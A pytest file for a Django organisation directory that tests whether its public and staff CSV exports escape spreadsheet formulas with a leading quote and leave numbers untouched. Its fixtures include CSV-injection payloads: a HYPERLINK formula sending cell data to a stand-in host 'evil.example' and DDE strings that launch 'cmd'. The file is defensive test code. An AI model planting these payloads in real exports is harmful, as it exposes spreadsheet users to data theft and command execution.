"""Exports are safe: a cell a spreadsheet would evaluate comes out as text (issue 14).

The rule (directory.csv_export) and the two exports of the directory: `/annuaire/export.csv`
(public) and `/financements/couverture/export.csv` (staff).
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.contrib.gis.geos import Point

from directory.csv_export import csv_writer, spreadsheet_safe
from directory.models import Organisation
from directory.selectors import EXPORT_HEADER
from directory.selectors.funding import COVERAGE_CSV_HEADER
from tests.factories import make_organisation, make_pathway_scheme

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def parsed(response, delimiter: str = ";") -> list[dict[str, str]]:
    """The rows of a CSV download, each checked to have as many cells as the header."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = csv.reader(
        io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=delimiter
    )
    assert all(len(row) == len(header) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


# --- The rule ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        (SUM, "'" + SUM),
        (MINUS, "'" + MINUS),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1dSUM(1+1)", "'\uff1dSUM(1+1)"),
        ("+33 3 20 00 00 00", "'+33 3 20 00 00 00"),  # a phone, not a number
        ("-", "'-"),
        ("-3.5", "-3.5"),
        ("-0.25", "-0.25"),
        ("-0,25", "-0,25"),
        ("+12", "+12"),
        ("12", "12"),
        ("1e-3", "1e-3"),
        ("Atelier - vélo = joie", "Atelier - vélo = joie"),
        ("", ""),
        (None, None),
        (-3, -3),
        (-0.25, -0.25),
        (Decimal("-3.141500"), Decimal("-3.141500")),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote_and_a_number_does_not(value, written):
    assert spreadsheet_safe(value) == written


def test_the_writer_makes_every_cell_safe_and_keeps_the_columns():
    out = io.StringIO(newline="")
    csv_writer(out, delimiter=";").writerows([("nom", "x"), (HYPERLINK, -1.5), ("a;b", SUM)])

    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";")) == [
        ["nom", "x"],
        ["'" + HYPERLINK, "-1.5"],
        ["a;b", "'" + SUM],
    ]


# --- /annuaire/export.csv (public) -------------------------------------------------------


@pytest.mark.django_db
def test_the_directory_export_neutralises_formulas_and_keeps_numbers(client):
    make_organisation(
        HYPERLINK,
        acronym=CALC,
        street=SUM,
        website=MINUS,
        phone="+33 3 20 00 00 00",
        city="\t=1+1",
        legal_form="-3.5",
        location=Point(-0.25, 50.63, srid=4326),
    )
    make_organisation("Association La Piscine", phone="03 20 00 00 00")

    rows = parsed(client.get("/annuaire/export.csv"))

    assert list(rows[0]) == [*EXPORT_HEADER, "licence", "date_extraction"]
    evil, piscine = sorted(rows, key=lambda row: row["nom"] == "Association La Piscine")
    assert evil["nom"] == "'" + HYPERLINK
    assert evil["sigle"] == "'" + CALC
    assert evil["adresse"] == "'" + SUM
    assert evil["site_web"] == "'" + MINUS
    assert evil["telephone"] == "'+33 3 20 00 00 00"
    assert evil["commune"] == "'\t=1+1"
    assert evil["forme_juridique"] == "-3.5"
    assert (evil["longitude"], evil["latitude"]) == ("-0,250000", "50,630000")
    assert (piscine["nom"], piscine["telephone"]) == ("Association La Piscine", "03 20 00 00 00")


# --- /financements/couverture/export.csv (staff) -----------------------------------------


@pytest.mark.django_db
def test_the_coverage_export_neutralises_formulas_and_keeps_numbers(client):
    funder = make_organisation("Fonds au nom piégé", kinds=("financeur",))
    Organisation.objects.filter(pk=funder.pk).update(slug="-fonds-piege")
    make_pathway_scheme("Fonds d'amorçage", stages=("amorcage",)).funders.set([funder])
    client.force_login(get_user_model().objects.create_user("agent", is_staff=True))

    rows = parsed(client.get("/financements/couverture/export.csv"))

    assert list(rows[0]) == [*COVERAGE_CSV_HEADER, "sources", "licence", "date_extraction"]
    actor = [row for row in rows if row["tableau"] == "acteur"]
    assert {row["ligne"] for row in actor} == {"'-fonds-piege"}
    amorcage = next(row for row in actor if row["etape"] == "amorcage")
    assert (amorcage["dispositifs"], amorcage["acteurs"], amorcage["lacune"]) == ("1", "1", "0")


# --- Every writer ------------------------------------------------------------------------

#: CSV written for a program, never opened by a person: the addresses sent to the BAN
#: geocoder (a `'` would change them) and the synthetic files the benches import.
MACHINE_CSV = {
    "importers/io/geocoding.py",
    "bench/sirene_files.py",
    "bench/sync_rna.py",
    "bench/sync_places.py",
    "bench/hostile_files.py",
}


def test_every_csv_a_person_opens_is_written_through_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    writers = {
        str(path.relative_to(root))
        for app in ("directory", "cartography", "importers", "config", "bench")
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert writers == {"directory/csv_export.py", *MACHINE_CSV}
